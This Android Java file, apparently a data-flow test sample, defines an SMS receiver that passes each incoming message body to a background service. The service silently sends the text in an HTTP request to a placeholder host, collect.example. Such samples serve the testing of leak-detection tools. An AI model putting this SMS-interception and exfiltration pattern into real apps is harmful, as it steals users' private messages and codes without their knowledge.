package org.example.flows.phone;

import android.app.IntentService;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsMessage;
import org.apache.http.client.HttpClient;
import org.apache.http.client.methods.HttpGet;
import org.apache.http.impl.client.DefaultHttpClient;

/** A receiver hands each message to a service, which sends it. */
public class SmsToServer extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        Object[] pdus = (Object[]) intent.getExtras().get("pdus");
        for (int at = 0; at < pdus.length; at++) {
            SmsMessage message = SmsMessage.createFromPdu((byte[]) pdus[at]);
            Intent job = new Intent(context, Sender.class);
            job.putExtra("text", message.getDisplayMessageBody());
            job.putExtra("count", at);
            context.startService(job);
        }
    }

    public static class Sender extends IntentService {
        public Sender() {
            super("sender");
        }

        @Override
        protected void onHandleIntent(Intent job) {
            String text = job.getStringExtra("text");
            try {
                HttpClient client = new DefaultHttpClient();
                client.execute(new HttpGet("http://collect.example/sms?t=" + text));
            } catch (Exception problem) {
                stopSelf();
            }
        }
    }
}
